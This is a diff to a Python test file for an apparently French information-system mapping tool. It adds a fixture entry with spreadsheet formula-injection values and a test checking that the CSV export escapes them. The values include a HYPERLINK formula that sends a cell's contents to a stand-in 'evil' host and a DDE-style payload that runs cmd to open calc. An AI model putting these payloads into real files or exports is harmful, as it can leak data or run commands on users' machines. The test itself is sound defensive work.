@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 from pathlib import Path
 from typing import Any
@@ -52,6 +54,11 @@ application:
     approvals: {dsi: {on: 2020-01-01, note: "oui, mais"}, dpo: false}
     properties: {Salle: B12, Étages: ["1", "2"]}
   orbis: {name: ORBIS, type: core, part_of: agathe, contracts: [], tags: []}
+  tableur:
+    name: =HYPERLINK("http://evil/?"&A1)
+    aliases: ["@SUM(1+1)*cmd|' /C calc'!A0", "'=1", "''+1", "-"]
+    description: "-2+3"
+    properties: {"+1": "=1", Bas: ["-1", "＝1"]}
 flow:
   siu-orbis: {source: siu, target: orbis, data: [identite], mode: message, port: 2575, need: vital}
 """
@@ -99,6 +106,18 @@ def test_a_part_comes_back_alone(tmp_path: Path, name: str) -> None:
     root = a_workspace(tmp_path, si=SI)
     plan = planned(root, exported(root, name, "application", "id=agathe")).plan
     assert (plan.changed, plan.added, plan.gone, refusals(plan), plan.writes) == ((), (), (), [], False)
+
+
+def test_no_cell_of_the_table_is_a_formula_and_a_number_stays_one(tmp_path: Path) -> None:
+    lines = exported(a_workspace(tmp_path, si=SI), "csv").read_text(encoding="utf-8-sig")
+    table = {row["id"]: row for row in csv.DictReader(io.StringIO(lines, newline=""))}
+    assert not [cell for row in table.values() for cell in row.values() if cell.startswith(("=", "+", "-", "@"))]
+    tableur, agathe = table["tableur"], table["agathe"]
+    assert (tableur["name"][:12], tableur["description"], agathe["yearly_cost"]) == (
+        "'=HYPERLINK(",
+        "'-2+3",
+        "120000.5",
+    )
 
 
 def test_a_graph_that_was_edited_says_what_changed_where(tmp_path: Path) -> None:
